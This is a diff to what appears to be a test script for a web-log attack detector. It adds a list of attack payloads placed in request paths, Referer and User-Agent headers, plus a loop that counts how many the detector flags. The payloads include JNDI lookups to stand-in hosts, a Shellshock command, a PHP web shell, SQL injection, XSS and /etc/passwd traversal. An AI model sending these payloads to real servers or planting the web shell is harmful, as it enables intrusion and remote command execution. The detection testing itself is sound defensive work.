@@ -333,6 +333,31 @@ EXPLOIT_PROBES = [
     '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%69%64%22%29%7d',
 ]
 
+# Payloads where scanners also put them: the path, the Referer, the User-Agent, a
+# parameter's name.
+PLACED = [
+    ('path', '/${jndi:ldap://203.0.113.5/a}/index.html'),
+    ('path', '/index.php/%3Cscript%3Ealert(1)%3C/script%3E'),
+    ('path', "/product/1'%20or%20'1'='1"),
+    ('path', '/product/1%20union%20select%201,2,3--'),
+    ('path', '/static/..%2f..%2f..%2fetc%2fpasswd'),
+    ('path', '/cgi-bin/;id'),
+    ('path', '/search/%7B%7B7*7%7D%7D'),
+    ('path', '/api/v1/users/1;sleep(5)'),
+    ('referer', '${jndi:ldap://203.0.113.5/a}'),
+    ('referer', '<script>alert(1)</script>'),
+    ('referer', "' or 1=1--"),
+    ('referer', '() { :; }; /bin/bash -c id'),
+    ('referer', 'http://203.0.113.5/?q=../../../../etc/passwd'),
+    ('ua', '<script>alert(1)</script>'),
+    ('ua', "' or sleep(5)#"),
+    ('ua', 'Mozilla/5.0 ${jndi:ldap://x.example/a}'),
+    ('ua', "<?php system($_GET['c']); ?>"),
+    ('path', '/index.php?<script>=1'),
+    ('path', "/index.php?1'%20or%201=1--=x"),
+    ('path', '/index.php?__proto__[admin]=1'),
+]
+
 
 def enc(p, how):
     if how == 0:  # as a browser sends it
@@ -408,6 +433,19 @@ def main():
         for n, p in enumerate(EXPLOIT_PROBES, 1):
             if n not in found:
                 print("MISS probe", p)
+    placed = []
+    for i, (where, p) in enumerate(PLACED):
+        path = p if where == "path" else "/"
+        referer = p.replace('"', '\\"') if where == "referer" else "-"
+        agent = p.replace('"', '\\"') if where == "ua" else BROWSER
+        placed.append(f'203.0.113.{i + 1} - - [29/Feb/2024:18:00:{i:02d} +0000] '
+                      f'"GET {path} HTTP/1.1" 200 512 "{referer}" "{agent}"')
+    found = hunt(shodo, placed, os.path.join(work, "placed.log"))
+    print(f"payloads in the path, Referer and User-Agent detected: {len(found)} / {len(PLACED)}")
+    if show_misses:
+        for n, (where, p) in enumerate(PLACED, 1):
+            if n not in found:
+                print("MISS", where, p)
     ua = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
           "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1")
     benign = [f'198.51.100.{i % 200 + 1} - - [29/Feb/2024:16:{i % 60:02d}:00 +0000] '
